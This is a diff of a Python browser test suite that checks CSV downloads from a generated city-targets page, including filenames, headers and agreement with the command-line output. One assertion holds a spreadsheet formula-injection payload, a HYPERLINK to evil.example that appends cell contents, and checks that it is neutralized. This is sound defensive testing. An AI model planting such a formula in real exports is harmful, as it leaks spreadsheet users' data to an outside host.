@@ -270,8 +270,8 @@ def test_data_docs_render_offline_from_the_report(page, sample_home, tmp_path):
     page.page.screenshot(path=str(ARTIFACTS / "data-docs-cities.png"), full_page=False)
 
 
-def _download(page, tmp_path: Path, name: str) -> list[list[str]]:
-    """Click the page's CSV button and read the file it downloads."""
+def _download(page, tmp_path: Path, name: str, saved_as: str | None = None) -> list[list[str]]:
+    """Click the page's CSV button and read the file it downloads (``saved_as``: the name it must save as)."""
     import csv
 
     with page.page.expect_download() as info:
@@ -281,6 +281,8 @@ def _download(page, tmp_path: Path, name: str) -> list[list[str]]:
     download.save_as(path)
     if name.startswith("targets"):
         assert download.suggested_filename.startswith("cdpi-targets-") and download.suggested_filename.endswith(".csv")
+    if saved_as is not None:
+        assert download.suggested_filename == saved_as
     return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
 
 
@@ -325,12 +327,14 @@ def test_download_the_rows_shown_as_csv(page, formula_site, tmp_path, capsys):
     home, out, state = formula_site
     page.open(out / "targets.html")
     page.page.select_option("select[data-filter=state]", state)
-    table = _download(page, tmp_path, "targets.csv")
+    label = query(home, "SELECT strftime(snapshot, '%Y-%m') FROM ops.latest_run")[0][0]
+    table = _download(page, tmp_path, "targets.csv", f"cdpi-targets-{label}.csv")
     expected = _cli_csv(home, capsys, "--state", state)
     assert len(table) - 1 == len(visible_rows(page.page, "targets")) > 1
     assert table == expected
     header = table[0]
-    assert header[:4] == ["rank", "city", "state", "population"] and header[-4:] == ["geoid", "snapshot", "run_id", "is_sample"]
+    assert header[:4] == ["rank", "city", "state", "population"]
+    assert header[-5:] == ["geoid", "snapshot", "run_id", "is_sample", "expected_points"], "new columns at the end"
     why = [r[header.index("why_call")] for r in table[1:]]
     assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")" in why, "neutralized as the CLI does"
     assert not [c for r in table for c in r if c[:1] and c[:1] in "=+@"], "a cell a spreadsheet would run"
@@ -339,13 +343,15 @@ def test_download_the_rows_shown_as_csv(page, formula_site, tmp_path, capsys):
     for status, listed in (("longer_path", "longer-path"), ("not_observed", "not-observed")):
         page.page.select_option("select[data-filter=state]", "")
         page.page.select_option("select[data-filter=status]", status)
-        got, want = _download(page, tmp_path, f"targets-{status}.csv"), _cli_csv(home, capsys, "--list", listed)
+        # Saved under a name of its own: downloads of two lists neither overwrite nor pass for each other.
+        got = _download(page, tmp_path, f"targets-{status}.csv", f"cdpi-targets-{listed}-{label}.csv")
+        want = _cli_csv(home, capsys, "--list", listed)
         # In the same order too: the page sorts the longer path as the command does (the rounded chance,
         # then geoid), so cities whose chances round alike come out alike.
         assert got == want and len(got) > 1
     # Every list at once: a first column says which list each row is from.
     page.page.select_option("select[data-filter=status]", "any")
-    mixed = _download(page, tmp_path, "targets-any.csv")
+    mixed = _download(page, tmp_path, "targets-any.csv", f"cdpi-targets-all-lists-{label}.csv")
     assert mixed[0][0] == "list" and {"geoid", "outreach_note", "why_call_links"} <= set(mixed[0])
     assert len(mixed) - 1 == len(visible_rows(page.page, "targets"))
     assert {r[0] for r in mixed[1:]} == {"targets", "longer-path", "not-observed"}
